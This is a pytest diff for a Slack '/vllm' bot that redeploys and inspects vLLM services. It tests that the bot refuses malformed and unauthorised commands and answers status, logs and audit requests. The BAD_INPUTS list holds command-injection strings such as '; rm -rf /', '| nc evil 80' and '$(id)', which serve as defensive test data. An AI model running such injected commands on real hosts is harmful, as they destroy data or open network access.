@@ -1,0 +1,153 @@
+"""``/vllm`` subcommands through the real bolt app (signed HTTP requests), with the
+fake Slack, real SQLite and the simulated GPU host."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+from slack_harness import (
+    ALICE,
+    CHANNEL,
+    MALLORY,
+    OTHER_CHANNEL,
+    SERVICE,
+    blocks_text,
+    slack_bot,
+)
+
+from bot.grammar import COMMANDS, usage
+from bot.sim.kit import SimKit
+
+
+def ack_text(body: str) -> str:
+    return str(json.loads(body).get("text", "")) if body.startswith("{") else body
+
+
+# (text as typed after /vllm, a phrase the ephemeral answer must contain)
+BAD_INPUTS = [
+    ("frobnicate kimi-k25", "Valid commands: help, redeploy, restart"),
+    ("redeploy no-such-service", "Configured services: kimi-k25"),
+    ("redeploy kimi-k25 --version banana", "not a valid PEP 440 version"),
+    ("redeploy kimi-k25 --index evil", "Configured indexes for kimi-k25: nightly"),
+    ("redeploy kimi-k25; rm -rf /", "not allowed"),
+    ("restart kimi-k25 && reboot", "not allowed"),
+    ("logs kimi-k25 -n 5 | nc evil 80", "not allowed"),
+    ("status $(id)", "not allowed"),
+    ("gpus `hostname`", "not allowed"),
+    ("restart kimi-k25 extra words", "Unexpected extra words"),
+    ("cancel twelve", "not a run id"),
+    ("audit --limit 100000", "--limit must be a whole number"),
+]
+
+
+async def test_bad_input_is_refused_ephemerally_recorded_and_never_reaches_a_host(
+        tmp_path: Path, sim_host: SimKit) -> None:
+    async with slack_bot(tmp_path, sim_host) as bot:
+        for n, (text, phrase) in enumerate(BAD_INPUTS, start=1):
+            res = await bot.command(text)
+            assert res.status == 200
+            answer = ack_text(res.text)
+            assert phrase in answer, (text, answer)
+            assert "in_channel" not in res.text  # Slack shows an ack's text only to its sender
+            rows = await bot.refusals(n)
+            assert rows[0].command == f"/vllm {text}" and rows[0].user == ALICE
+        await bot.ops.idle()
+        assert bot.fake.calls("chat.postMessage") == []
+        assert await bot.runtime.audit.list_runs() == []
+        assert sim_host.calls() == []
+
+
+async def test_commands_from_other_channels_are_refused(tmp_path: Path,
+                                                        sim_host: SimKit) -> None:
+    async with slack_bot(tmp_path, sim_host) as bot:
+        res = await bot.command(f"redeploy {SERVICE}", channel=OTHER_CHANNEL)
+        assert f"<#{CHANNEL}>" in ack_text(res.text)
+        rows = await bot.refusals(1)
+        assert rows[0].channel == OTHER_CHANNEL
+        await bot.ops.idle()
+        assert await bot.runtime.audit.list_runs() == []
+        assert sim_host.calls() == []
+
+
+async def test_requesters_outside_the_policy_are_refused(tmp_path: Path,
+                                                         sim_host: SimKit) -> None:
+    async with slack_bot(tmp_path, sim_host) as bot:
+        res = await bot.command(f"redeploy {SERVICE}", user=MALLORY)
+        assert res.status == 200
+        notes = await bot.ephemerals_for(MALLORY)
+        assert "not on the requesters list" in notes[-1]["text"]
+        rows = await bot.refusals(1)
+        assert rows[0].user == MALLORY
+        await bot.ops.idle()
+        assert await bot.runtime.audit.list_runs() == []
+        assert sim_host.calls() == []
+
+
+async def test_help_lists_every_command_with_its_usage(tmp_path: Path,
+                                                       sim_host: SimKit) -> None:
+    async with slack_bot(tmp_path, sim_host) as bot:
+        answer = ack_text((await bot.command("help")).text)
+        listed = [line for line in answer.splitlines() if line.startswith("• ")]
+        assert len(listed) == len(COMMANDS)
+        for name, line in zip(COMMANDS, listed, strict=True):
+            assert usage(name).replace("<", "&lt;").replace(">", "&gt;") in line
+        assert ack_text((await bot.command("")).text) == answer
+
+
+def test_readme_and_manifest_list_every_command() -> None:
+    root = Path(__file__).resolve().parents[2]
+    manifest = (root / "deploy" / "slack-manifest.yml").read_text()
+    hint = next(line for line in manifest.splitlines() if "usage_hint" in line)
+    for name in COMMANDS:
+        assert f" {name}" in hint or f'"{name}' in hint, name
+    readme = (root / "README.md").read_text()
+    if "/vllm help" not in readme:
+        # The lead writes the README's Slack section; until then there is no list to check.
+        pytest.skip("README.md has no /vllm command list yet")
+    for name in COMMANDS:
+        assert f"/vllm {name}" in readme, name
+
+
+async def test_status_runs_the_read_only_action_and_posts_the_answer(
+        tmp_path: Path, sim_host: SimKit) -> None:
+    async with slack_bot(tmp_path, sim_host) as bot:
+        await bot.command(f"status {SERVICE}")
+        msg = await bot.fake.wait_for_message(CHANNEL, lambda m: "Status" in m.get("text", ""))
+        text = blocks_text(msg)
+        assert "vllm-kimi-k25: active" in text and "gpu-node-1: 8 GPUs" in text
+        record = (await bot.runtime.audit.list_runs())[0]
+        assert (record.action, record.status) == ("status", "succeeded")
+        assert record.approved_by == ["system:read-only"]
+        await bot.ops.idle()
+        tools = {c.tool for c in sim_host.calls()}
+        assert "systemctl" in tools
+        assert not [c for c in sim_host.calls() if "stop" in c.argv or "install" in c.argv]
+
+
+async def test_gpus_answers_with_a_code_block(tmp_path: Path, sim_host: SimKit) -> None:
+    async with slack_bot(tmp_path, sim_host) as bot:
+        await bot.command("gpus gpu-node-1")
+        msg = await bot.fake.wait_for_message(CHANNEL, lambda m: "GPUs" in m.get("text", ""))
+        text = blocks_text(msg)
+        assert "```" in text and "1/1 hosts ok" in text and "total" in text
+
+
+async def test_logs_posts_the_journal_tail(tmp_path: Path, sim_host: SimKit) -> None:
+    async with slack_bot(tmp_path, sim_host) as bot:
+        await bot.command(f"logs {SERVICE} -n 5")
+        msg = await bot.fake.wait_for_message(CHANNEL, lambda m: "journalctl" in m.get("text", ""))
+        assert "== gpu-node-1" in blocks_text(msg)
+        journal = [c for c in sim_host.calls("journalctl")]
+        assert journal and journal[0].argv[1:] == ("-u", "vllm-kimi-k25", "-n", "5", "--no-pager")
+
+
+async def test_audit_posts_the_table(tmp_path: Path, sim_host: SimKit) -> None:
+    async with slack_bot(tmp_path, sim_host) as bot:
+        await bot.command(f"restart {SERVICE}")
+        await bot.wait_for_run(lambda r: r.message_ts is not None, "the card")
+        await bot.command(f"audit {SERVICE} --limit 5")
+        msg = await bot.fake.wait_for_message(CHANNEL, lambda m: "Audit log" in m.get("text", ""))
+        text = blocks_text(msg)
+        assert "REQUESTED BY" in text and "pending_approval" in text and ALICE in text
